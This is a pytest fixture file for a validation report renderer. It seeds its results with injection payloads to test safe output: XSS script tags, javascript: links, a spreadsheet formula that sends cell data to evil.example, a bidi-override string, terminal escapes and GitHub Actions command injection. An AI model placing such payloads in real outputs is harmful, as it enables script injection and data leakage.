"""A report with twelve results, each nasty in its own way, and the words to say it with."""

import json
from collections.abc import Callable

import pytest

from svgraph.report import Edit, Fix, Report, Result, Rule
from svgraph.words import Words, words_of

HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
REVERSED = "R.40\u202e04.R"
CONTROLS = "bell\x07 escape\x1b[31mred null-ish\x01 next\x85"
TABLE = "a | b `code` [link](javascript:alert(3)) **bold**\n\n# heading\n@everyone #1"
GITHUB = "::error file=x::injected"
LONG = "=" + "ļ" * 40_000
LINE = '    sv:code "R40" ; # \U0001f33b plans\tand tabs'
PLAN = "https://example.org/plan/"

RULES = {
    "Indicator-code": Rule(
        id="Indicator-code",
        title="code of an indicator",
        message="Give the code as the regulation prints it.",
        why="Two spellings of one code are two indicators to every query.",
        remedy="Write the letter, a full stop, and the number.",
        shape="https://w3id.org/svgraph/shapes#Indicator-code",
        bad=('ex:a sv:code "R40" .\n',),
        good=('ex:a sv:code "R.40" .\n',),
    ),
    "Record-label": Rule(
        id="Record-label",
        title=f"label {HTML}",
        message="Name the record.",
        why=f"Readers choose by names. {TABLE}",
        severity="warning",
        bad=('ex:b a sv:Record . # ```\n"""</script>"""',),
    ),
    "syntax": Rule(id="syntax", title="readable file", message="Mend the file."),
}


def result(**said: object) -> Result:
    plain = {
        "rule": "Indicator-code",
        "severity": "violation",
        "message": "Give the code as the regulation prints it.",
        "focus": PLAN + "lv/indicator-R40",
        "focus_label": "R.40",
        "path": "sv:code",
        "component": "sh:PatternConstraintComponent",
        "plan": "lv",
        "file": "data/plans/lv/logic.ttl",
        "line": 41,
        "column": 13,
    }
    return Result(**(plain | said))  # type: ignore[arg-type]


EDIT = Edit("data/plans/lv/logic.ttl", 1204, 1209, '"R40"', '"R.40"')

RESULTS = [
    result(
        value="R40",
        path_label="code",
        expected="R.40",
        found="R40",
        excerpt=LINE,
        fix=Fix("nearest official code", (EDIT,)),
    ),
    result(rule="syntax", component=None, focus=None, focus_label=None, path=None, plan=None,
           message="this text is never closed", file="data/plans/ļoti garš, a#b.ttl", line=3,
           column=1, excerpt=f"{REVERSED} {HTML}"),
    result(focus_label=HTML, value=HTML, found=HTML),
    result(focus_label=FORMULA, value=FORMULA, message=FORMULA, expected="@SUM(1)", found="-1+1"),
    result(focus_label=REVERSED, value=REVERSED, message=f"{REVERSED}\u2066!"),
    result(focus_label=CONTROLS, value=CONTROLS, message="\x00\ufffe\uffff"),
    result(rule="Record-label", severity="warning", focus_label=TABLE, message=TABLE, value=None,
           component="sh:MinCountConstraintComponent", file="data/plans/ee/plan.ttl", plan="ee"),
    result(rule="Record-label", severity="warning", focus_label=GITHUB,
           message=f"{GITHUB}\n{GITHUB}", excerpt=GITHUB, column=1, plan="ee",
           file="data/plans/ee/plan.ttl"),
    result(value=LONG, severity="warning", focus="javascript:alert(4)", focus_label="link"),
    result(rule="", severity="info", focus="_:b1", focus_label=None, value="_:b2", plan=None,
           file=None, line=None, column=None, path="(sv:a|^sv:b)/sv:c*"),
    result(rule="unknown rule", severity="info", plan=None, file="/elsewhere/a b.ttl", line=2,
           column=None, focus_label='{braces} "quotes" & </td>', message="{0} [a](b)"),
    result(severity="info", focus_label="\u0623\u0628\u062c", value="+1", message="＝1+1",
           line=None, column=None, plan="lt", file="data/plans/lt/plan.ttl"),
]  # fmt: skip


@pytest.fixture
def nasty() -> Report:
    """Twelve results: three severities, four plans or none, six files or none."""
    return Report(
        results=RESULTS,
        shapes=61,
        focus_nodes=412,
        rules=RULES,
        engine="shacl",
        profile="fact-sheet",
        idle=("svs:Translation",),
    )


@pytest.fixture
def clean() -> Report:
    return Report(results=[], shapes=3, focus_nodes=7)


@pytest.fixture(params=["en", "lv"])
def words(request: pytest.FixtureRequest) -> Words:
    return words_of([request.param])


@pytest.fixture
def english() -> Words:
    return words_of(["en"])


@pytest.fixture
def parsed() -> Callable[[str | bytes], dict]:
    return json.loads
